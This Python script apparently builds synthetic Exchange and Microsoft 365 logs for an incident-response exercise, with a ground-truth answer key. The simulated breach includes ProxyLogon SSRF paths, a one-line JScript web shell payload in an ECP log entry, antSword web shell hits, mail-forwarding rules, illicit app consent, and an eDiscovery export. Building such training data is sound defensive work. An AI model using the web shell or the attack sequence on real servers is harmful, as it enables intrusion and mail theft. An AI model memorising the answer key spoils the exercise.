#!/usr/bin/env python3
"""Writes samples/exchange-exports: what a responder copies off Oceanlab's Exchange 2016
server (HttpProxy, ECP, OABGenerator, IIS and message tracking logs) and exports from its
Microsoft 365 tenant (Purview audit log CSV, Get-InboxRule / Get-Mailbox / Get-TransportRule
CSVs), with the story's ground truth in truth.json. Deterministic: run it again and the files
are byte-identical. Formats follow the products' documented headers; addresses are from the
documentation ranges (RFC 5737)."""

import csv, io, json, math, os, random, uuid
from datetime import datetime, timedelta, timezone

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "exchange-exports")
rnd = random.Random(20260303)
UTC = timezone.utc
ORG = "oceanlab.example.org"
TENANT = "oceanlab.onmicrosoft.com"
EXCH_ATTACKER = "192.0.2.66"
CLOUD_ATTACKER = "203.0.113.50"
OFFICE = ["198.51.100.%d" % i for i in (11, 12, 13, 14, 15, 16)]
LEGIT = ["li.na", "chen.jie", "zhou.min", "sun.hao"]
VICTIM = "wang.fang"
ADMIN = "it.admin"
truth = {"story": "", "items": [], "legit_users": [], "files": {}}


def upn(u):
    return f"{u}@{ORG}"


def gid():
    return str(uuid.UUID(int=rnd.getrandbits(128)))


def iso(t, ms=True):
    return t.strftime("%Y-%m-%dT%H:%M:%S") + (".%03dZ" % (t.microsecond // 1000) if ms else "")


def write(rel, text, crlf=True):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text.replace("\n", "\r\n") if crlf else text
    with open(path, "w", newline="", encoding="utf-8") as f:
        f.write(data)
    truth["files"][rel] = len(text.splitlines())


def item(rule, rel, lines, what, phase, users=(), ips=()):
    truth["items"].append({"rule": rule, "file": rel, "lines": sorted(lines), "what": what,
                           "phase": phase, "users": list(users), "ips": list(ips)})


# ---------------------------------------------------------------- HttpProxy (Ecp, Owa)
PROXY = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
         "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
         "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,"
         "ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,"
         "BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
         "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
         "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
         "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
         "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
         "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
         "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
         "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,"
         "RoutingLatency,HttpProxyOverhead,TotalRequestTime,UrlQuery,BackEndGenericInfo,GenericInfo,"
         "GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus")
NPROXY = len(PROXY.split(","))


def proxy_head(kind, t):
    return ("#Software: Microsoft Exchange Server\n#Version: 15.01.2176.002\n"
            f"#Log-type: HttpProxy Logs\n#Date: {iso(t)}\n#Fields: {PROXY}\n")


def proxy_row(t, proto, host, stem, user, anchor, ua, ip, status, method, hint, query=""):
    cells = [iso(t), gid(), "15", "1", "2176", "2", "", proto, host, stem, "", "FBA" if user else "",
             "True" if user else "False", user, "", anchor, ua, ip, "EXCH01", str(status), str(status),
             "", method, "Proxy", "exch01.oceanlab.local", "Version 15.1 (Build 2176.2)", "", hint]
    cells += [""] * (NPROXY - len(cells))
    cells[64] = query
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
day = datetime(2026, 3, 3, 0, 0, tzinfo=UTC)

# ECP HttpProxy: staff use of ECP (options page) and the attack.
ecp_rows = []
for h in (1, 2, 5, 6, 7):
    t = day + timedelta(hours=h, minutes=rnd.randint(0, 50), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT)
    ecp_rows.append((t, proxy_row(t, "Ecp", "mail.oceanlab.example.org", "/ecp/PersonalSettings/HomePage.aspx",
                                  f"OCEANLAB\\{u}", f"Sid~S-1-5-21-{rnd.randint(1000, 9999)}", BROWSER,
                                  rnd.choice(OFFICE), 200, "GET", "Sid")))
attack = day + timedelta(hours=3, minutes=12, seconds=4)
ssrf_paths = [("/autodiscover/autodiscover.xml?#", 200, "ExchangeServicesClient/0.0.0.0"),
              ("/mapi/emsmdb/?#", 200, "python-requests/2.25.1"),
              ("/ecp/proxyLogon.ecp?#", 241, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Q2x.&schema=OABVirtualDirectory#", 200, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Q2x.&schema=OABVirtualDirectory#", 200, "python-requests/2.25.1"),
              ("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Q2x.&schema=ResetOABVirtualDirectory#", 200, "python-requests/2.25.1")]
ssrf_times = []
for i, (path, st, ua) in enumerate(ssrf_paths):
    t = attack + timedelta(seconds=2 * i + rnd.random())
    ssrf_times.append(t)
    ecp_rows.append((t, proxy_row(t, "Ecp", "mail.oceanlab.example.org", "/ecp/x3k.js", "",
                                  f"ServerInfo~a]@exch01.oceanlab.local:444{path}", ua, EXCH_ATTACKER, st,
                                  "POST", "X-BEResource-Cookie")))
ecp_rows.sort()
rel = "exch01/Logging/HttpProxy/Ecp/HttpProxy_2026030300-1.LOG"
head = proxy_head("Ecp", day)
lines = [r for _, r in ecp_rows]
write(rel, head + "".join(lines))
hl = len(head.splitlines())
item("exchange.proxylogon_ssrf", rel,
     [hl + 1 + i for i, (t, r) in enumerate(ecp_rows) if EXCH_ATTACKER in r],
     "CVE-2021-26855: forged AnchorMailbox requests from the attacker", "initial_access", ips=[EXCH_ATTACKER])

# OWA HttpProxy: ordinary staff webmail.
owa = []
for n in range(60):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT + [VICTIM])
    stem = rnd.choice(["/owa/", "/owa/service.svc", "/owa/auth/logon.aspx", "/owa/ev.owa2"])
    owa.append((t, proxy_row(t, "Owa", "mail.oceanlab.example.org", stem, f"OCEANLAB\\{u}",
                             f"Smtp~{upn(u)}", BROWSER, rnd.choice(OFFICE), 200,
                             "POST" if "svc" in stem or "logon" in stem else "GET", "Smtp")))
owa.sort()
write("exch01/Logging/HttpProxy/Owa/HttpProxy_2026030300-1.LOG", proxy_head("Owa", day) + "".join(r for _, r in owa))

# ---------------------------------------------------------------- ECP server log
ecp = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: ECP Server Log",
       f"#Date: {iso(day)}", "#Fields: DateTime,ServerName,EventType,EventData"]
ev = []
for h in (1, 6):
    t = day + timedelta(hours=h, minutes=rnd.randint(0, 50))
    ev.append((t, f"{iso(t)},EXCH01,ECP.Request,\"S:TIME=312;S:SID={gid()};'S:CMD=Get-Mailbox.Identity=''{upn(rnd.choice(LEGIT))}''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetObject;S:EX=;S:ACTID={gid()};S:RS=0;S:BLD=15.1.2176.2\"", False))
shell = "Xs9t2k"
payload = ("http://x/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"p4ss\"\"],\"\"unsafe\"\");}</script>")
chain = [
    ("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null", False),
    (f"Set-OabVirtualDirectory.ExternalUrl=''{payload}''.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", True),
    ("Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", False),
    ("Set-OabVirtualDirectory.ExternalUrl=$null.Identity=''7c1e3b52-2d1a-4b1e-9f3a-0d3c2b1a9e77''", False),
    ("Remove-OABVirtualDirectory.Force=$true.Identity=''EXCH01\\OAB (Default Web Site)''", False),
    ("New-OABVirtualDirectory.WebSiteName=''Default Web Site''.Server=''EXCH01''.Role=''ClientAccess''.Path=''C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\" + shell + ".aspx''", False),
]
for i, (cmd, _) in enumerate(chain):
    t = attack + timedelta(seconds=5 + 3 * i)
    ev.append((t, f"{iso(t)},EXCH01,ECP.Request,\"S:TIME={rnd.randint(100, 5000)};S:SID={gid()};'S:CMD={cmd}';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=;S:ACTID={gid()};S:RS=0;S:BLD=15.1.2176.2\"", True))
ev.sort()
rel = "exch01/Logging/ECP/Server/ECPServer2026030300-1.LOG"
write(rel, "\n".join(ecp + [l for _, l, _ in ev]) + "\n")
item("exchange.proxylogon_ecp_write", rel, [len(ecp) + 1 + i for i, (_, _, a) in enumerate(ev) if a],
     "CVE-2021-27065: OAB virtual directory ExternalUrl set to a JScript web shell, and the chain around it",
     "persistence")

# ---------------------------------------------------------------- OABGenerator log
oab = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: OABGenerator Log",
       f"#Date: {iso(day)}", "#Fields: DateTime,ThreadId,TraceLevel,Message"]
for h in range(0, 24, 4):
    t = day + timedelta(hours=h, minutes=2)
    oab.append(f"{iso(t)},17,Info,OABGeneratorAssistant: generation of offline address book '\\Default Offline Address Book' completed.")
t = attack + timedelta(seconds=40)
bad = len(oab) + 1
oab.append(f"{iso(t)},23,Error,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\{shell}.aspx' needs to be removed.")
oab.sort(key=lambda l: (not l.startswith("#"), l))
bad = [i + 1 for i, l in enumerate(oab) if "Download failed" in l]
rel = "exch01/Logging/OABGeneratorLog/OABGenerator2026030300-1.LOG"
write(rel, "\n".join(oab) + "\n")
item("exchange.proxylogon_oab_write", rel, bad, "CVE-2021-26858: file written to aspnet_client", "persistence")

# ---------------------------------------------------------------- IIS W3C
iis = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", f"#Date: {day:%Y-%m-%d} 00:00:00",
       "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"]
rows = []
for n in range(80):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60), seconds=rnd.randint(0, 59))
    u = rnd.choice(LEGIT + [VICTIM])
    stem, m = rnd.choice([("/owa/auth/logon.aspx", "POST"), ("/owa/", "GET"), ("/owa/service.svc", "POST"),
                          ("/EWS/Exchange.asmx", "POST"), ("/Microsoft-Server-ActiveSync/default.eas", "POST"),
                          ("/owa/auth/15.1.2176/themes/resources/favicon.ico", "GET")])
    user = "-" if "logon" in stem or "favicon" in stem else f"OCEANLAB\\{u}"
    rows.append((t, f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {m} {stem} &CorrelationID=<empty>;&cafeReqId={gid()}; 443 {user} {rnd.choice(OFFICE)} {BROWSER.replace(' ', '+')} - 200 0 0 {rnd.randint(5, 400)}", False))
shell_hits = [(40, "GET", "/owa/auth/Current/themes/resources/errorEE.aspx", 404),
              (55, "GET", "/owa/auth/OutlookEN.aspx", 404),
              (70, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200),
              (3600, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200),
              (7300, "POST", f"/aspnet_client/system_web/{shell}.aspx", 200)]
for secs, m, stem, st in shell_hits:
    t = attack + timedelta(seconds=secs)
    rows.append((t, f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {m} {stem} - 443 - {EXCH_ATTACKER} antSword/v2.1 - {st} 0 0 {rnd.randint(5, 90)}", True))
rows.sort()
rel = "exch01/W3SVC1/u_ex260303.log"
write(rel, "\n".join(iis + [r for _, r, _ in rows]) + "\n")
item("exchange.webshell", rel, [len(iis) + 1 + i for i, (_, _, a) in enumerate(rows) if a],
     "web shell probing and use of aspnet_client/system_web/Xs9t2k.aspx", "persistence", ips=[EXCH_ATTACKER])

# ---------------------------------------------------------------- message tracking
MT = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,"
      "internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
      "recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,"
      "message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data,"
      "transport-traffic-type,log-id,schema-version")
mt = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: Message Tracking Log",
      f"#Date: {iso(day)}", f"#Fields: {MT}"]
msgs = []
for n in range(25):
    t = day + timedelta(minutes=rnd.randint(0, 23 * 60))
    s, r = rnd.sample(LEGIT + [VICTIM], 2)
    mid = f"<{gid()}@exch01.oceanlab.local>"
    subj = rnd.choice(["Cruise schedule", "Sample inventory", "Lab meeting", "Budget 2026"])
    for k, (ev_id, src) in enumerate([("RECEIVE", "SMTP"), ("DELIVER", "STOREDRIVER")]):
        tt = t + timedelta(seconds=k)
        cells = [iso(tt), "10.0.0.5", "EXCH01.oceanlab.local", "10.0.0.5", "EXCH01", "08DC1DB12C345BE5;" + iso(tt) + ";0",
                 "EXCH01\\Default EXCH01", src, ev_id, str(rnd.randint(10**13, 10**14)), mid, gid(), upn(r), "250 2.1.5 Recipient OK" if k else "",
                 str(rnd.randint(3000, 90000)), "1", "", "", subj, upn(s), upn(s), "", "Originating", "", "", "", "", "Email", gid(), "15.01.2176.002"]
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerow(cells)
        msgs.append((tt, out.getvalue().rstrip("\n")))
msgs.sort()
write("exch01/Logging/MessageTracking/MSGTRK2026030300-1.LOG", "\n".join(mt + [m for _, m in msgs]) + "\n")

# ---------------------------------------------------------------- Purview unified audit log
recs = []


def ual(t, op, user, workload, rtype, ip, extra, status="Success"):
    d = {"CreationTime": t.strftime("%Y-%m-%dT%H:%M:%S"), "Id": gid(), "Operation": op,
         "OrganizationId": "5d0b7c3a-0f3e-4c7e-9a43-3f5ab7c0e2d1", "RecordType": rtype, "ResultStatus": status,
         "UserKey": gid(), "UserType": 0, "Version": 1, "Workload": workload, "ClientIP": ip,
         "ObjectId": "", "UserId": user}
    d.update(extra)
    recs.append((t, op, user, d))


def login(t, u, ip, ok=True):
    ext = [{"Name": "ResultStatusDetail", "Value": "Success" if ok else "Invalid"},
           {"Name": "UserAgent", "Value": BROWSER}, {"Name": "RequestType", "Value": "Login:login"}]
    extra = {"ExtendedProperties": ext, "ActorIpAddress": ip, "AzureActiveDirectoryEventType": 1}
    if not ok:
        extra["LogonError"] = "InvalidUserNameOrPassword"
    ual(t, "UserLoggedIn" if ok else "UserLoginFailed", upn(u), "AzureActiveDirectory", 15, ip, extra)


def exo(t, op, u, ip, params, obj=""):
    ual(t, op, upn(u), "Exchange", 1, f"{ip}:{rnd.randint(20000, 60000)}",
        {"ObjectId": obj, "OrganizationName": TENANT, "OriginatingServer": "SG2PR01MB2345 (15.20.7452.028)",
         "Parameters": [{"Name": k, "Value": v} for k, v in params], "ExternalAccess": False}, status="True")


start = datetime(2026, 3, 1, 0, 0, tzinfo=UTC)
for d in range(4):
    for u in LEGIT + [VICTIM, ADMIN]:
        for k in range(rnd.randint(2, 4)):
            t = start + timedelta(days=d, hours=rnd.randint(0, 9), minutes=rnd.randint(0, 59), seconds=rnd.randint(0, 59))
            login(t, u, rnd.choice(OFFICE))
# legitimate rules and settings
exo(start + timedelta(days=1, hours=2, minutes=14), "New-InboxRule", "li.na", OFFICE[0],
    [("Name", "Newsletters"), ("From", "news@marine-journal.example.com"), ("MoveToFolder", "Newsletters"), ("StopProcessingRules", "False")])
exo(start + timedelta(days=1, hours=3, minutes=40), "New-InboxRule", "chen.jie", OFFICE[1],
    [("Name", "Ship reports to deputy"), ("SubjectContainsWords", "ship report"), ("ForwardTo", f"sun.hao@{ORG}")])
exo(start + timedelta(days=2, hours=1, minutes=5), "Set-Mailbox", "zhou.min", OFFICE[2],
    [("Identity", upn("sun.hao")), ("ForwardingSmtpAddress", f"smtp:li.na@{ORG}"), ("DeliverToMailboxAndForward", "True")])
exo(start + timedelta(days=2, hours=2, minutes=30), "New-TransportRule", "zhou.min", OFFICE[2],
    [("Name", "External disclaimer"), ("FromScope", "InOrganization"), ("SentToScope", "NotInOrganization"),
     ("ApplyHtmlDisclaimerText", "This message is from Oceanlab."), ("Enabled", "True")])
# the attack on wang.fang: password guessing, then a sign-in from a new network
t0 = datetime(2026, 3, 4, 14, 2, 11, tzinfo=UTC)
for i in range(7):
    login(t0 + timedelta(seconds=37 * i), VICTIM, CLOUD_ATTACKER, ok=False)
t_in = t0 + timedelta(seconds=37 * 7 + 5)
login(t_in, VICTIM, CLOUD_ATTACKER)
exo(t_in + timedelta(minutes=6), "New-InboxRule", VICTIM, CLOUD_ATTACKER,
    [("Name", "."), ("SubjectOrBodyContainsWords", "invoice;payment;bank"), ("ForwardTo", "fang.wang.office@mailbox-relay.example.net"),
     ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True"), ("StopProcessingRules", "True")], obj=upn(VICTIM) + "\\.")
exo(t_in + timedelta(minutes=9), "Set-Mailbox", VICTIM, CLOUD_ATTACKER,
    [("Identity", upn(VICTIM)), ("ForwardingSmtpAddress", "smtp:fang.wang.office@mailbox-relay.example.net"), ("DeliverToMailboxAndForward", "False")])
# and on the admin, phished the same afternoon
t_adm = t_in + timedelta(minutes=31)
login(t_adm, ADMIN, CLOUD_ATTACKER)
exo(t_adm + timedelta(minutes=4), "New-TransportRule", ADMIN, CLOUD_ATTACKER,
    [("Name", "Compliance copy"), ("FromScope", "InOrganization"), ("BlindCopyTo", "archive-7731@mailbox-relay.example.net"), ("Enabled", "True")])
# ---------------------------------------------------------------- what the attacker read and took (issue 19)
# Record shapes: Microsoft Learn, "Office 365 Management Activity API schema" (common, Exchange
# admin, Exchange mailbox and Entra schemas; AuditLogRecordType 1 ExchangeAdmin, 3
# ExchangeItemGroup, 8 AzureActiveDirectory, 24 Discovery, 50 ExchangeItemAggregated, 101
# ExchangeSearch); "Use MailItemsAccessed to investigate compromised accounts" (MailAccessType
# Bind/Sync and IsThrottled in OperationProperties, Folders[].FolderItems[].InternetMessageId,
# OperationCount, SessionId, ClientInfoString; Bind aggregated per 2 minutes, Sync recorded per
# folder for desktop Outlook); "Search for eDiscovery activities in the audit log" (SearchCreated,
# SearchStarted, SearchExported, SearchExportDownloaded, CaseAdded, HoldCreated with ObjectId,
# Case, Query, ExchangeLocations); "Detect and remediate illicit consent grants" ("Consent to
# application." with ConsentContext.IsAdminConsent and ConsentAction.Permissions ... Scope: ...).
# SearchQueryInitiatedExchange carries QueryText and QuerySource (as Office 365 for IT Pros'
# FindCrucialSendAndSearchRecords.PS1 reads them).
rt = random.Random(20260319)
MAILBOX_GUID = {u: gid() for u in LEGIT + [VICTIM, ADMIN, "zhao.lei"]}
APP = {"name": "Mail Backup Sync", "app_id": "7e1c2f9a-3b64-4d85-a0c2-5f8e91d4b6a3",
       "spn": "c2a9e5b1-64f0-4e3d-9b7a-18d2f0a6c4e9"}
DIRECTOR = "zhao.lei"   # the centre's director: a mailbox, not a person who signs in here
GRAPH = "Client=REST;Client=RESTSystem;;"
OWA = "Client=OWA;Action=ViaProxy"


def mid_of(dom=None):
    if dom:
        return f"<{rt.randint(10**11, 10**12)}.{rt.randint(1000, 9999)}@{dom}>"
    return f"<SG2PR01MB{rt.randint(1000, 9999)}{rt.getrandbits(64):016X}@SG2PR01MB{rt.randint(1000, 9999)}.apcprd01.prod.exchangelabs.com>"


def item_size(median):
    return int(min(20_000_000, max(1800, rt.lognormvariate(math.log(median), 1.0))))


def mailbox_record(t, op, owner, ip, rtype, extra, actor=None, client=OWA, session=None, logon=0):
    """An Exchange mailbox audit record (owner's or delegate's access)."""
    d = {"ClientIPAddress": ip, "ClientInfoString": client, "ExternalAccess": False, "InternalLogonType": 0,
         "LogonType": logon, "LogonUserSid": f"S-1-5-21-{rt.randint(10**8, 10**9)}-{rt.randint(10**8, 10**9)}-1{rt.randint(100, 999)}",
         "MailboxGuid": MAILBOX_GUID[owner], "MailboxOwnerUPN": upn(owner), "OrganizationName": TENANT,
         "OriginatingServer": "SG2PR01MB2345 (15.20.7452.028)\r\n"}
    if session:
        d["SessionId"] = session
    d.update(extra)
    ual(t, op, upn(actor or owner), "Exchange", rtype, ip, d, status="Succeeded")


def accessed(t, owner, ip, folders, access="Bind", client=OWA, session=None, app=None):
    """MailItemsAccessed: Bind lists each item by Internet message id (and size); Sync names folders."""
    if access == "Bind":
        fl = [{"FolderItems": [{"InternetMessageId": m, "SizeInBytes": s} for m, s in items],
               "Id": folder_id(owner, path), "Path": path} for path, items in folders if items]
        count = sum(len(items) for _, items in folders)
    else:
        fl = [{"Id": folder_id(owner, path), "Path": path} for path, _ in folders]
        count = len(fl)
    extra = {"OperationProperties": [{"Name": "MailAccessType", "Value": access}, {"Name": "IsThrottled", "Value": "False"}],
             "Folders": fl, "OperationCount": count}
    if app:
        extra.update({"AppId": app, "ClientAppId": app})
    mailbox_record(t, "MailItemsAccessed", owner, ip, 50, extra, client=client, session=session)


FOLDER_IDS = {}


def folder_id(owner, path):
    return FOLDER_IDS.setdefault((owner, path), "LgAAAAB" + "".join(rt.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(52)) + "AAAB")


def admin_cmd(t, op, u, ip, params, obj=""):
    exo(t, op, u, ip, params, obj=obj)


def discovery(t, op, u, ip, extra, status="Succeeded"):
    d = {"ObjectId": extra.pop("ObjectId", ""), "ClientApplication": "EMC", "CmdletVersion": "",
         "EffectiveOrganization": TENANT, "SecurityComplianceCenterEventType": 0, "StartTime": iso(t - timedelta(seconds=2), ms=False),
         "UserServicePlan": "", "UserType": 2}
    d.update(extra)
    ual(t, op, upn(u), "SecurityComplianceCenter", 24, ip, d, status=status)


def consent(t, u, app, scopes):
    """Entra's record of a user consenting to a delegated permission grant (no client address)."""
    grant = (f"[] => [[Id: {''.join(rt.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-') for _ in range(43))}, "
             f"ClientId: {app['spn']}, PrincipalId: {MAILBOX_GUID[u]}, ResourceId: 3b5e2c1d-8a47-4f96-b0e3-d9c6a2f17e58, "
             f"ConsentType: Principal, Scope: {scopes}, CreatedDateTime: , LastModifiedDateTime ]]; ")
    mp = [{"Name": "ConsentContext.IsAdminConsent", "NewValue": "False", "OldValue": ""},
          {"Name": "ConsentContext.IsAppOnly", "NewValue": "False", "OldValue": ""},
          {"Name": "ConsentContext.OnBehalfOfAll", "NewValue": "False", "OldValue": ""},
          {"Name": "ConsentContext.Tags", "NewValue": "WindowsAzureActiveDirectoryIntegratedApp", "OldValue": ""},
          {"Name": "ConsentAction.Permissions", "NewValue": grant, "OldValue": ""},
          {"Name": "TargetId.ServicePrincipalNames", "NewValue": app["app_id"], "OldValue": ""}]
    extra = {"AzureActiveDirectoryEventType": 1, "ExtendedProperties": [
                 {"Name": "additionalDetails", "Value": "{\"User-Agent\":\"" + BROWSER + "\",\"AppId\":\"" + app["app_id"] + "\"}"},
                 {"Name": "extendedAuditEventCategory", "Value": "ServicePrincipal"}],
             "ModifiedProperties": mp, "ObjectId": app["spn"],
             "Actor": [{"ID": upn(u), "Type": 5}, {"ID": MAILBOX_GUID[u], "Type": 2}, {"ID": "User_" + MAILBOX_GUID[u], "Type": 2}],
             "Target": [{"ID": "ServicePrincipal_" + app["spn"], "Type": 2}, {"ID": app["spn"], "Type": 2},
                        {"ID": "ServicePrincipal", "Type": 2}, {"ID": app["name"], "Type": 1}, {"ID": app["app_id"], "Type": 2},
                        {"ID": app["app_id"], "Type": 4}]}
    ual(t, "Consent to application.", upn(u), "AzureActiveDirectory", 8, None, extra, status="Success")


THEFT_ITEMS = []   # (rule, predicate over (op, user, t), what, phase, users, ips, accessed)
NEGATIVES = []


def theft_m365():
    sess_owa, sess_graph, sess_owa2 = gid(), gid(), gid()
    # The owner's mailbox as the attacker found it: Inbox, Sent Items and a Finance folder.
    box = {"\\Inbox": [(mid_of(rt.choice(["partner.example.net", "funding.example.org", "vendor.example.net"])) if rt.random() < 0.6 else mid_of(), item_size(24000)) for _ in range(388)],
           "\\Sent Items": [(mid_of(), item_size(16000)) for _ in range(152)],
           "\\Finance": [(mid_of("vendor.example.net") if rt.random() < 0.7 else mid_of(), item_size(160000)) for _ in range(86)]}
    # 1. Searches in OWA for money, and a look at what they found.
    t = t_in + timedelta(minutes=3, seconds=12)
    searches = []
    for q in ("invoice", "bank account", "payment due"):
        mailbox_record(t, "SearchQueryInitiatedExchange", VICTIM, CLOUD_ATTACKER, 101,
                       {"QueryText": q, "QuerySource": "OWA", "ScenarioName": "OwaMailSearch"}, session=sess_owa)
        searches.append(t)
        t += timedelta(seconds=rt.randint(20, 50))
    looked = rt.sample(box["\\Inbox"], 7) + rt.sample(box["\\Finance"], 5)
    accessed(t + timedelta(seconds=30), VICTIM, CLOUD_ATTACKER, [("\\Inbox", looked[:7]), ("\\Finance", looked[7:])],
             session=sess_owa)
    owa_binds = [t + timedelta(seconds=30)]
    # 2. Consent to an app that reads mail, then the app pulls every item through Graph.
    t_consent = t_in + timedelta(minutes=11, seconds=4)
    consent(t_consent, VICTIM, APP, "Mail.Read Mail.ReadBasic offline_access User.Read")
    t = t_consent + timedelta(minutes=1, seconds=40)
    graph_times = []
    rest = [(path, m) for path, items in box.items() for m in items]
    while rest:
        n = rt.randint(38, 52)
        chunk, rest = rest[:n], rest[n:]
        folders = []
        for path in box:
            items = [m for p, m in chunk if p == path]
            if items:
                folders.append((path, items))
        accessed(t, VICTIM, CLOUD_ATTACKER, folders, client=GRAPH, session=sess_graph, app=APP["app_id"])
        graph_times.append(t)
        t += timedelta(minutes=2, seconds=rt.randint(0, 9))
    n_items = sum(len(v) for v in box.values())
    n_bytes = sum(s for v in box.values() for _, s in v)
    # 3. The attacker clears the invoices it has read from the Inbox for good.
    t_del = t + timedelta(minutes=4, seconds=17)
    gone = rt.sample(box["\\Inbox"], 14)
    mailbox_record(t_del, "HardDelete", VICTIM, CLOUD_ATTACKER, 3, {
        "Folder": {"Id": folder_id(VICTIM, "\\Inbox"), "Path": "\\Inbox"}, "CrossMailboxOperations": False,
        "AffectedItems": [{"Id": "RgAAAAB" + "".join(rt.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef0123456789") for _ in range(40)) + "AAAJ",
                           "InternetMessageId": m, "ParentFolder": {"Id": folder_id(VICTIM, "\\Inbox"), "Path": "\\Inbox"},
                           "Subject": f"RE: Invoice OL-2026-{rt.randint(100, 999)}"} for m, _ in gone]}, session=sess_owa2)
    # 4. it.admin (phished): audit bypass for itself, FullAccess to the director's mailbox, IMAP on
    #    for wang.fang, and a content search of every mailbox for payments, exported and downloaded.
    ta = t_adm + timedelta(minutes=6, seconds=40)
    admin_cmd(ta, "Set-MailboxAuditBypassAssociation", ADMIN, CLOUD_ATTACKER,
              [("Identity", upn(ADMIN)), ("AuditBypassEnabled", "True")], obj=upn(ADMIN))
    admin_cmd(ta + timedelta(minutes=1, seconds=52), "Add-MailboxPermission", ADMIN, CLOUD_ATTACKER,
              [("Identity", upn(DIRECTOR)), ("User", upn(ADMIN)), ("AccessRights", "FullAccess"),
               ("InheritanceType", "All"), ("AutoMapping", "False")], obj=upn(DIRECTOR))
    admin_cmd(ta + timedelta(minutes=3, seconds=30), "Set-CASMailbox", ADMIN, CLOUD_ATTACKER,
              [("Identity", upn(VICTIM)), ("ImapEnabled", "True")], obj=upn(VICTIM))
    ts = ta + timedelta(minutes=7, seconds=5)
    query = "invoice OR payment OR \"bank details\" OR swift"
    discovery(ts, "SearchCreated", ADMIN, CLOUD_ATTACKER, {"ObjectId": "Q1 payments", "ObjectType": "ComplianceSearch", "Query": query,
              "ExchangeLocations": ["All"], "Case": "", "ExtendedProperties": [{"Name": "ContentMatchQuery", "Value": query}]})
    discovery(ts + timedelta(seconds=21), "SearchStarted", ADMIN, CLOUD_ATTACKER, {"ObjectId": "Q1 payments", "ObjectType": "ComplianceSearch",
              "Query": query, "ExchangeLocations": ["All"], "Case": ""})
    te = ts + timedelta(minutes=9, seconds=48)
    discovery(te, "SearchExported", ADMIN, CLOUD_ATTACKER, {"ObjectId": "Q1 payments_Export", "ObjectType": "ComplianceSearchAction",
              "Query": query, "ExchangeLocations": ["All"], "Case": "",
              "ExtendedProperties": [{"Name": "SearchName", "Value": "Q1 payments"}, {"Name": "Action", "Value": "Export"},
                                     {"Name": "ExchangeArchiveFormat", "Value": "PerUserPst"}, {"Name": "ItemCount", "Value": "2417"},
                                     {"Name": "TotalSize", "Value": "1873260417"}]})
    td = te + timedelta(minutes=14, seconds=3)
    discovery(td, "SearchExportDownloaded", ADMIN, CLOUD_ATTACKER, {"ObjectId": "Q1 payments_Export", "ObjectType": "ComplianceSearchAction",
              "Case": ""})
